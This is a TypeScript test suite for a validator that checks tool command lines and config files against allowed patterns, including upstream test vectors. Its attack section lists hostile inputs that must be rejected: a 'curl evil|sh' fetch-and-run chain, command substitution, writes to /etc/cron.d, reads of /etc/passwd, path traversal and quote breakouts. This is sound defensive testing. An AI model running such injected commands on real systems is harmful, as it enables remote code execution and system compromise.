import test, { type ExecutionContext } from 'ava';
import type { Validator, XmlElement } from '../../src/tools/types.js';
import { compileValidator, lintValidator, ValidatorLoadError, type ValidatorKind } from '../../src/tools/validator.js';

// Upstream's test vectors use `<temp>/1` as the job directory.
const T = '/tmp/magnetar-validator-test';
const JD = `${T}/1`;

function el(name: string, attrs: Record<string, string> = {}, children: XmlElement[] = [], text = ''): XmlElement {
  return { name, attrs, children, text };
}
const literal = (value: string, attrs: Record<string, string> = {}): XmlElement => el('literal', { value, ...attrs });
const regex = (value: string, attrs: Record<string, string> = {}): XmlElement => el('regex', { value, ...attrs });
const parameter = (name: string, children: XmlElement[], attrs: Record<string, string> = {}): XmlElement => el('parameter', { name, ...attrs }, children);
const input = (attrs: Record<string, string> = {}): XmlElement => el('input', attrs);
const output = (attrs: Record<string, string> = {}): XmlElement => el('output', attrs);

function command(children: XmlElement[], attrs: Record<string, string> = {}): Validator {
  return compileValidator(el('command_validator', attrs, children), 'command');
}
function configfile(children: XmlElement[], attrs: Record<string, string> = {}): Validator {
  return compileValidator(el('configfile_validator', { name: 'config1', ...attrs }, children), 'configfile');
}

function accepts(t: ExecutionContext, v: Validator, ...texts: string[]): void {
  for (const text of texts) {
    const result = v.validate(text, JD);
    t.true(result.ok, `should accept ${JSON.stringify(text)}: ${result.ok ? '' : result.reason}`);
  }
}
function rejects(t: ExecutionContext, v: Validator, ...texts: string[]): void {
  for (const text of texts) t.false(v.validate(text, JD).ok, `should reject ${JSON.stringify(text)}`);
}
function loadError(t: ExecutionContext, root: XmlElement, pattern: RegExp, kind: ValidatorKind = 'command'): void {
  const error = t.throws(() => compileValidator(root, kind), { instanceOf: ValidatorLoadError });
  t.regex(error?.message ?? '', pattern);
}
const cmdRoot = (...children: XmlElement[]): XmlElement => el('command_validator', {}, children);

const tophat = literal('tophat2');
const inFile = (name: string): string => `${JD}/inputs/${name}`;
const outFile = (name: string): string => `${JD}/outputs/${name}`;

// ---------------------------------------------------------------- upstream vectors (PROTOCOL §12)

test('upstream: literal', (t) => {
  const v = command([tophat]);
  accepts(t, v, 'tophat2');
  rejects(t, v, 'bowtie');
});

test('upstream: two literals', (t) => {
  const v = command([literal('python'), literal('setup.py')]);
  accepts(t, v, 'python setup.py');
  rejects(t, v, 'pythonsetup.py');
});

test('upstream: parameter with a literal value', (t) => {
  const v = command([tophat, parameter('--mate-std-dev', [literal('4')])]);
  accepts(t, v, 'tophat2 --mate-std-dev 4', 'tophat2 --mate-std-dev=4');
  rejects(t, v, 'tophat2 --mate-std-dev=5');
});

test('upstream: integer', (t) => {
  const v = command([tophat, parameter('--mate-std-dev', [el('integer')])]);
  accepts(t, v, 'tophat2 --mate-std-dev 4', 'tophat2 --mate-std-dev=4');
  rejects(t, v, 'tophat2 --mate-std-dev=5.0');
});

test('upstream: float', (t) => {
  const v = command([tophat, parameter('--mate-std-dev', [el('float')])]);
  accepts(t, v, 'tophat2 --mate-std-dev 4', ...['4', '5.0', '4e10', '-1.0e10', '-.0e10'].map((f) => `tophat2 --mate-std-dev=${f}`));
  rejects(t, v, 'tophat2 --mate-std-dev=cat');
});

test('upstream: tool_wrapper', (t) => {
  const v = command([el('tool_wrapper', { name: 'tool1_wrapper.py' })]);
  accepts(t, v, `${JD}/tool_files/tool1_wrapper.py`);
  rejects(t, v, 'tool1_wrapper.py');
});

test('upstream: configfile', (t) => {
  const v = command([tophat, el('configfile', { name: 'top_opts' })]);
  accepts(t, v, `tophat2 ${JD}/configs/top_opts`);
  rejects(t, v, `tophat2 ../${JD}/configs/top_opts`, `tophat2 ${JD}/configs/top_optsX`);
});

test('upstream: input', (t) => {
  const v = command([tophat, input()]);
  accepts(t, v, `tophat2 ${inFile('dataset_23412.dat')}`);
  rejects(t, v, `tophat2 ${inFile('dataset_23412.dat')}/../../../dataset23412.dat`, `tophat2 ../${inFile('dataset_23412.dat')}`);
});

test('upstream: two inputs', (t) => {
  const v = command([tophat, input(), input()]);
  accepts(t, v, `tophat2 ${inFile('dataset_23412.dat')} ${inFile('dataset_1.dat')}`);
  rejects(t, v, `tophat2 ${inFile('dataset_23412.dat')} ../${inFile('dataset_1.dat')}`);
});

test('upstream: two outputs', (t) => {
  const v = command([tophat, output(), output()]);
  accepts(t, v, `tophat2 ${outFile('x')} ${outFile('y')}`);
  rejects(t, v, `tophat2 ${outFile('x')} ../${outFile('y')}`);
});

test('upstream: output from_work_dir', (t) => {
  const v = command([tophat, output(), output({ from_work_dir: 'junctions.bed' })]);
  accepts(t, v, `tophat2 ${outFile('x')} ${JD}/working/junctions.bed`);
  rejects(t, v, `tophat2 ${outFile('x')} ../${JD}/working/../junctions.bed`, `tophat2 ${outFile('x')} ${JD}/working/other.bed`);
});

test('upstream: single-quoted parameter value', (t) => {
  const v = command([tophat, parameter('--mate-std-dev', [literal('4', { single_quote: 'true' })])]);
  accepts(t, v, "tophat2 --mate-std-dev '4'", "tophat2 --mate-std-dev='4'");
  rejects(t, v, 'tophat2 --mate-std-dev=4', 'tophat2 --mate-std-dev="4"');
});

test('upstream: double-quoted parameter value', (t) => {
  const v = command([tophat, parameter('--mate-std-dev', [literal('4', { double_quote: 'true' })])]);
  accepts(t, v, 'tophat2 --mate-std-dev "4"', 'tophat2 --mate-std-dev="4"');
  rejects(t, v, 'tophat2 --mate-std-dev=4', "tophat2 --mate-std-dev='4'");
});

test('upstream: optional parameter (and, deliberately, no trailing space needed)', (t) => {
  const v = command([tophat, parameter('--mate-std-dev', [literal('4', { double_quote: 'true' })], { min: '0' })]);
  accepts(t, v, 'tophat2 --mate-std-dev "4"', 'tophat2 ');
  rejects(t, v, 'tophat2 --mate-std-dev=5');
  // Divergence from upstream, which rejects it: an absent element leaves no separator behind.
  accepts(t, v, 'tophat2');
});

test('upstream: regex with max=2', (t) => {
  const v = command([tophat, regex('[a-z]', { max: '2' })]);
  accepts(t, v, 'tophat2 a', 'tophat2 a b');
  rejects(t, v, 'tophat2 a b c');
});

test('upstream: group', (t) => {
  const v = command([tophat, el('group', {}, [literal('a'), regex('[b-z]+'), literal('a')])]);
  accepts(t, v, 'tophat2 aba', 'tophat2 abba');
  rejects(t, v, 'tophat2 abbbaa', 'tophat2 abb');
});

test('upstream: group separate_by=x', (t) => {
  const v = command([tophat, el('group', { separate_by: 'x' }, [literal('a'), regex('[b-z]+'), literal('a')])]);
  accepts(t, v, 'tophat2 axbxa', 'tophat2 axbxbxa');
  rejects(t, v, 'tophat2 abba', 'tophat2 axbxbxbxaxa');
});

test('upstream: tool1 command and config1 configfile validators', (t) => {
  const cmd = command([literal('python'), el('tool_wrapper', { name: 'tool1_wrapper.py' }), parameter('--config', [el('configfile', { name: 'config1' })])]);
  accepts(t, cmd, `python ${JD}/tool_files/tool1_wrapper.py --config ${JD}/configs/config1`);
  rejects(t, cmd, `python ${JD}/tool_files/tool1_wrapper.py --config ${JD}/configs/config2`);
  const config = configfile([regex('\\s*'), parameter('--option1', [literal('Hello', { single_quote: 'true' })]), regex('\\s*')]);
  accepts(t, config, "\n   --option1='Hello' \n");
  rejects(t, config, "\n   --option1='Bye' \n", "--option1='Hello'; id");
});

// ---------------------------------------------------------------- attacks

const cat = command([literal('cat'), input()]);
const catAnything = command([literal('cat'), input(), regex('.*', { min: '0', max: '5' })]);
const catWords = command([literal('cat'), input(), regex('[^ ]+', { min: '0', max: '5' })]);

test('attack: chaining after an input', (t) => {
  const a = inFile('a');
  accepts(t, cat, `cat ${a}`);
  for (const v of [cat, catAnything, catWords]) {
    rejects(t, v, `cat ${a}; curl evil|sh`, `cat ${a};id`, `cat ${a} && id`, `cat ${a}&&id`, `cat ${a} || id`, `cat ${a} | sh`, `cat ${a}|sh`, `cat ${a} &`);
  }
});

test('attack: substitutions and expansions', (t) => {
  const a = inFile('a');
  accepts(t, catAnything, `cat ${a} -n`, `cat ${a} --opt=value,x:y@z%1+2`);
  for (const v of [cat, catAnything, catWords]) {
    rejects(t, v, `cat ${a} $(id)`, `cat ${a}$(id)`, `cat ${a} \`id\``, `cat ${a}\`id\``, `cat ${a} \${HOME}`, `cat ${a} $HOME`, `cat ${a} ~`, `cat ${a} ~root`);
    rejects(t, v, `cat ${a} #comment`, `cat ${a} !!`, `cat ${a} {a,b}`, `cat ${a} \\;`, `cat ${a} "x"`, `cat ${a} 'x'`);
  }
});

test('attack: redirections', (t) => {
  const a = inFile('a');
  for (const v of [cat, catAnything, catWords]) {
    rejects(t, v, `cat ${a} > /etc/cron.d/y`, `cat ${a}>/etc/cron.d/y`, `cat ${a} >> x`, `cat ${a} < /etc/passwd`, `cat ${a} 2>&1`, `cat ${a} 2>/dev/null`);
  }
  const catOut = command([literal('cat'), input(), literal('>'), output()]);
  accepts(t, catOut, `cat ${a} > ${outFile('out.txt')}`);
  rejects(t, catOut, `cat ${a} > /etc/cron.d/y`, `cat ${a} > ${outFile('x')} ; id`);
});

test('attack: a literal may spell shell syntax on purpose', (t) => {
  const v = command([literal('tool'), input(), literal('2>&1'), literal('|'), literal('sort')]);
  accepts(t, v, `tool ${inFile('a')} 2>&1 | sort`);
  rejects(t, v, `tool ${inFile('a')} 2>&1 | sort; id`, `tool ${inFile('a')} 2>&1 | sh`);
});

test('attack: globs through permissive regexes', (t) => {
  const a = inFile('a');
  const glob = command([literal('ls'), regex('.*')]);
  const words = command([literal('ls'), regex('[^ ]+')]);
  accepts(t, glob, 'ls abc', 'ls -la');
  for (const v of [glob, words, catAnything, catWords]) {
    rejects(t, v, 'ls *', 'ls ?', 'ls [a]', 'ls /etc/*', `cat ${a} *`, `cat ${a} ${JD}/inputs/?`, `cat ${a} [a]`);
  }
  rejects(t, cat, `cat ${JD}/inputs/*`, `cat ${JD}/inputs/a?`, `cat ${JD}/inputs/[a]`);
});

test('attack: newline and carriage return splitting, also with *whitespace*', (t) => {
  const a = inFile('a');
  const ws = command([literal('cat'), input(), regex('[a-z]+', { min: '0' })], { separate_by: '*whitespace*' });
  accepts(t, ws, `cat\t${a}`, `cat \t ${a}\tabc`);
  for (const v of [cat, catAnything, catWords, ws]) {
    rejects(t, v, `cat ${a}\nid`, `cat ${a}\rid`, `cat ${a}\r\nid`, `cat\n${a}`, `cat ${a}\n`, `cat ${a}\vid`, `cat ${a}\fid`);
  }
  const literalNewline = command([literal('cat'), literal('\n'), input()]);
  rejects(t, literalNewline, `cat \n ${a}`);
});

test('attack: NUL and a forged job directory sentinel', (t) => {
  const a = inFile('a');
  rejects(t, cat, `cat ${a}\u0000`, `cat \u0000/inputs/a`, `cat ${a}\u0000; id`);
  rejects(t, catAnything, `cat ${a} \u0000`, `cat ${a} \u007f`, `cat ${a} \u0085id`);
});

test('attack: path tricks in input/output tokens', (t) => {
  const v = command([literal('cat'), input(), output()]);
  const out = outFile('o');
  accepts(t, v, `cat ${inFile('a/b/c.fa')} ${out}`, `cat ${inFile('...')} ${out}`, `cat ${inFile('.hidden')} ${out}`, `cat ${inFile('a..b')} ${out}`);
  for (const bad of ['a/../../x', '..', '.', './a', 'a/.', 'a/..', '', 'a//b', 'a/', '/a', 'a b', 'a;b', 'a$b', "a'b", 'a\\b']) {
    rejects(t, v, `cat ${inFile(bad)} ${out}`);
  }
  rejects(t, v, `cat ${inFile('a')} ${JD}/outputs/../inputs/x`, `cat ${inFile('a')} ${JD}/inputs/x`);
  // Another job's directory that merely starts with this one, and a detour out and back.
  rejects(t, v, `cat ${T}/10/inputs/a ${out}`, `cat ${T}/1/../2/inputs/a ${out}`, `cat ${T}/2/inputs/a ${out}`);
});

test('attack: breaking out of quotes', (t) => {
  const quotedInput = command([literal('cat'), input({ single_quote: 'true' })]);
  accepts(t, quotedInput, `cat '${inFile('a')}'`);
  rejects(t, quotedInput, `cat '${inFile('a')}'; id; echo ''`, `cat '${inFile("a'; id; echo '")}'`);
  const quotedRegex = command([literal('echo'), regex("[^']+", { single_quote: 'true' })]);
  accepts(t, quotedRegex, "echo 'abc'");
  // Inside single quotes bash takes these literally (quoting.test.ts runs them through bash).
  accepts(t, quotedRegex, "echo 'a b'", "echo '$(id)'");
  rejects(t, quotedRegex, "echo 'a'; id; echo ''", "echo 'a'b'", "echo 'a'\\''b'");
  const doubleQuoted = command([literal('echo'), regex('[^"]+', { double_quote: 'true' })]);
  accepts(t, doubleQuoted, 'echo "abc"');
  rejects(t, doubleQuoted, 'echo "$(id)"', 'echo "`id`"', 'echo "${HOME}"', 'echo "a"; id; echo ""');
});

test('attack: parameter names are literal text', (t) => {
  const v = command([literal('tool'), parameter('--a.b', [el('integer')]), parameter('--c*', [el('integer')], { min: '0' })]);
  accepts(t, v, 'tool --a.b 1', 'tool --a.b=1 --c*=2');
  rejects(t, v, 'tool --aXb 1', 'tool --a.b 1 --ccc=2', 'tool --a.b 1 --=2');
  // A name full of regex syntax loads and is matched verbatim.
  accepts(t, command([parameter('(x|y)+[z]{2}\\', [])]), '(x|y)+[z]{2}\\');
});

test('attack: unicode lookalikes', (t) => {
  const a = inFile('a');
  const v = command([tophat, parameter('--mate-std-dev', [el('integer')]), input()]);
  accepts(t, v, `tophat2 --mate-std-dev 4 ${a}`);
  rejects(t, v, `tophat2 --mate\u2010std\u2010dev 4 ${a}`, `toph\u0430t2 --mate-std-dev 4 ${a}`, `tophat2 --mate-std-dev \uff14 ${a}`);
  rejects(t, v, `tophat2 --mate-std-dev\u00a04 ${a}`, `tophat2 --mate-std-dev 4 ${a}\uff1bid`, `tophat2 --mate-std-dev 4 ${a}\u2028id`);
  const word = command([literal('echo'), regex('\\w+')]);
  rejects(t, word, 'echo caf\u00e9', 'echo \uff41', 'echo \u0430');
});

test('the 1 MB hostile lines are judged (and rejected) promptly', (t) => {
  const hostile = `tophat2 ${'a'.repeat(1_000_000)}!`;
  for (const pattern of ['(a|aa)+', '(a+)+b', '(a*)*', '(a|a)*']) {
    const v = command([tophat, regex(pattern)]);
    const started = performance.now();
    t.false(v.validate(hostile, JD).ok);
    t.log(`${pattern}: ${(performance.now() - started).toFixed(1)} ms`);
  }
  accepts(t, command([tophat, regex('(a|aa)+')]), `tophat2 ${'a'.repeat(1_000_000)}`);
});

// ---------------------------------------------------------------- semantics

test('optional elements never leave a dangling separator', (t) => {
  const middle = command([literal('a'), literal('b', { min: '0' }), literal('c')]);
  accepts(t, middle, 'a c', 'a  c', 'a b c');
  rejects(t, middle, 'abc', 'a bc', 'ab c', 'ac');
  const first = command([parameter('--x', [el('integer')], { min: '0' }), literal('run')]);
  accepts(t, first, 'run', '--x 3 run', ' run');
  rejects(t, first, '--x 3run', '--x run');
  const group = command([el('group', { separate_by: 'x' }, [literal('a'), literal('b', { min: '0' }), literal('c')])]);
  accepts(t, group, 'axc', 'axxc', 'axbxc');
  rejects(t, group, 'ac', 'abxc', 'axbc');
  const onlyOptional = command([literal('a', { min: '0' }), literal('b', { min: '0' })]);
  accepts(t, onlyOptional, '', 'a', 'b', 'a b', ' ', 'a ');
  rejects(t, onlyOptional, 'ab', 'b a');
});

test('repetition: min, max and the enclosing separator', (t) => {
  const v = command([literal('t'), el('integer', { min: '2', max: '3' })]);
  accepts(t, v, 't 1 2', 't 1 2 3');
  rejects(t, v, 't 1', 't 1 2 3 4', 't 12 ', 't 1,2');
  const comma = command([literal('t'), parameter('--ids', [el('integer', { max: '3' })], { separate_by: ',' })]);
  accepts(t, comma, 't --ids=1', 't --ids 1,2,3');
  rejects(t, comma, 't --ids 1,2,3,4', 't --ids 1, 2');
  const inputs = command([literal('cat'), input({ min: '0', max: '3' }), literal('-')]);
  accepts(t, inputs, 'cat -', `cat ${inFile('a')} -`, `cat ${inFile('a')} ${inFile('b')} ${inFile('c')} -`);
  rejects(t, inputs, `cat ${inFile('a')} ${inFile('b')} ${inFile('c')} ${inFile('d')} -`);
});

test('parameter without children is a flag', (t) => {
  const v = command([literal('tool'), parameter('--verbose', [], { min: '0' }), input()]);
  accepts(t, v, `tool ${inFile('a')}`, `tool --verbose ${inFile('a')}`);
  rejects(t, v, `tool --verbose=x ${inFile('a')}`, `tool --verbos ${inFile('a')}`);
});

test('configfile validators allow line breaks, still no shell syntax from regexes', (t) => {
  const v = configfile([literal('[section]'), parameter('key', [regex('.*')]), regex('\\s*', { min: '0' })], { separate_by: '*whitespace*' });
  accepts(t, v, '[section]\nkey = some value', '[section]\r\n  key=value with spaces\n\n');
  rejects(t, v, '[section]\nkey=$(id)', '[section]\nkey=`id`', '[section]\nkey=a;b', '[section]\nkey=a\u0000');
  const ws = command([literal('a'), literal('b')], { separate_by: '*whitespace*' });
  rejects(t, ws, 'a\nb');
  accepts(t, configfile([literal('a'), literal('b')], { separate_by: '*whitespace*' }), 'a\nb');
});

test('empty validator accepts only the empty text, and lint says so', (t) => {
  const root = el('command_validator');
  const v = compileValidator(root, 'command');
  accepts(t, v, '');
  rejects(t, v, ' ', 'a');
  t.true(lintValidator(root, 'command').some((w) => /no elements/.test(w)));
});

test('lint reports stripped characters and empty-matching repeats, and nothing for clean validators', (t) => {
  const warnings = lintValidator(cmdRoot(literal('ls'), regex('[^ ]+'), regex('(a*)*b'), regex(';')), 'command');
  t.true(warnings.some((w) => w.includes('regex "[^ ]+"') && w.includes('";"')), warnings.join('\n'));
  t.true(warnings.some((w) => w.includes('regex "(a*)*b"') && /empty string/.test(w)));
  t.true(warnings.some((w) => w.includes('regex ";"') && /never match/.test(w)));
  const glued = lintValidator(cmdRoot(literal('ls'), el('group', {}, [regex('[a-z./]*'), input()])), 'command');
  t.true(glued.some((w) => /regex "\[a-z\.\/\]\*" directly precedes input/.test(w)), glued.join('\n'));
  t.deepEqual(lintValidator(cmdRoot(literal('tophat2'), parameter('-p', [el('integer')]), input(), output()), 'command'), []);
  t.deepEqual(lintValidator(el('configfile_validator', { name: 'c' }, [regex('\\s*'), literal('x')]), 'configfile'), []);
});

test('rejection reasons name the failing element and position', (t) => {
  const v = command([tophat, parameter('--mate-std-dev', [literal('4')])]);
  const short = v.validate('tophat2 --mate', JD);
  t.false(short.ok);
  if (!short.ok) t.regex(short.reason, /^command_validator: text ends too early \(after "tophat2 --mate"\), expected parameter "--mate-std-dev"$/);
  const wrong = v.validate('tophat2 --mate-std-dev=5', JD);
  if (!wrong.ok) t.regex(wrong.reason, /failed at character 24, after "tophat2 --mate-std-dev="\), expected literal "4" in parameter "--mate-std-dev"/);
  else t.fail();
  const chained = cat.validate(`cat ${inFile('a')}; id`, JD);
  const position = `cat ${inFile('a')}`.length + 1;
  if (!chained.ok) t.regex(chained.reason, new RegExp(`failed at character ${position}, after "cat <jobdir>/inputs/a"`));
  else t.fail();
  const control = cat.validate('cat x\ny', JD);
  if (!control.ok) t.regex(control.reason, /control character U\+000A at character 6/);
  else t.fail();
  const config = configfile([literal('x')]).validate('y', JD);
  if (!config.ok) t.regex(config.reason, /^configfile_validator "config1": /);
  else t.fail();
});

test('validate never throws, and refuses unusable job directories', (t) => {
  const a = inFile('a');
  for (const dir of ['', 'relative/1', '/tmp/with space/1', '/tmp/$(id)/1', '/tmp/../1', '/tmp/1/', '/tmp//1']) {
    const result = cat.validate(`cat ${a}`, dir);
    t.false(result.ok, dir);
  }
  t.true(cat.validate(`cat ${a}`, JD).ok);
});

// ---------------------------------------------------------------- load errors

test('unsupported regex constructs are load errors naming the construct', (t) => {
  const cases: [string, RegExp][] = [
    ['(?=a)', /lookahead/],
    ['(?!a)', /negative lookahead/],
    ['(?<=a)b', /lookbehind/],
    ['(?<!a)b', /negative lookbehind/],
    ['(a)\\1', /backreference/],
    ['(?P<n>a)', /named group/],
    ['(?<n>a)', /named group/],
    ['(?P=n)', /named backreference/],
    ['a*?', /lazy quantifier/],
    ['a+?', /lazy quantifier/],
    ['a++', /possessive quantifier/],
    ['a{2}+', /possessive quantifier/],
    ['\\p{L}', /unicode property escape/],
    ['a{1001}', /above 1000/],
    ['a{3,2}', /out of order/],
    ['\\bword', /anchor/],
    ['a^b', /anchor '\^'/],
    ['a$b', /anchor '\$'/],
    ['(?i)a', /inline flags/],
    ['[[:alpha:]]', /nested sets/],
    ['(a', /missing '\)'/],
    ['a)', /unbalanced/],
    ['*a', /nothing to repeat/],
    ['a**', /multiple repeat/],
    ['a\\', /trailing backslash/],
    ['\\q', /unknown escape/],
    ['a{x}', /not a quantifier/],
    ['[z-a]', /bad character range/],
  ];
  for (const [source, pattern] of cases) {
    const error = t.throws(() => compileValidator(cmdRoot(regex(source)), 'command'), { instanceOf: ValidatorLoadError }, source);
    t.regex(error?.message ?? '', pattern, source);
    t.true(error?.message.includes(`regex ${JSON.stringify(source)}`), error?.message);
  }
});

test('element tree errors are load errors naming the element', (t) => {
  loadError(t, cmdRoot(el('foo')), /unknown element <foo>/);
  loadError(t, cmdRoot(literal('a', { valu: 'b' })), /literal "a": unknown attribute valu=/);
  loadError(t, cmdRoot(el('tool_wrapper')), /tool_wrapper: a file name is required/);
  loadError(t, cmdRoot(el('tool_wrapper', { name: '../x' })), /relative path/);
  loadError(t, cmdRoot(el('configfile')), /configfile: a file name is required/);
  loadError(t, cmdRoot(output({ from_work_dir: '/etc/passwd' })), /from_work_dir/);
  loadError(t, cmdRoot(literal('a', { max: '0' })), /max must be greater than 0/);
  loadError(t, cmdRoot(literal('a', { max: '-1' })), /not a non-negative integer/);
  loadError(t, cmdRoot(literal('a', { min: '3', max: '2' })), /min \(3\) is greater than max \(2\)/);
  loadError(t, cmdRoot(literal('a', { min: '1.5' })), /min="1.5" is not a non-negative integer/);
  loadError(t, cmdRoot(literal('a', { max: 'many' })), /max="many"/);
  loadError(t, cmdRoot(literal('a', { single_quote: 'yes' })), /single_quote="yes" must be true or false/);
  loadError(t, cmdRoot(el('parameter', {}, [literal('a')])), /parameter: the name attribute is required/);
  loadError(t, cmdRoot(el('literal', { value: 'a' }, [literal('b')])), /cannot have child elements/);
  loadError(t, cmdRoot(el('group', {}, [el('group', {}, [el('bogus')])])), /group > group > bogus: unknown element/);
  loadError(t, el('configfile_validator', { name: 'c' }), /expected a <command_validator> element/);
  loadError(t, el('configfile_validator'), /name attribute is required/, 'configfile');
  loadError(t, el('command_validator', { separate_by: ' ', extra: '1' }), /unknown attribute extra=/);
  loadError(t, cmdRoot(regex('(a{1000}){1000}')), /too large/);
});

test('value and text forms are equivalent', (t) => {
  const v = command([el('literal', {}, [], 'tophat2'), el('regex', {}, [], '[0-9]+'), el('tool_wrapper', {}, [], 'w.py')]);
  accepts(t, v, `tophat2 42 ${JD}/tool_files/w.py`);
  rejects(t, v, `tophat2 x ${JD}/tool_files/w.py`);
});
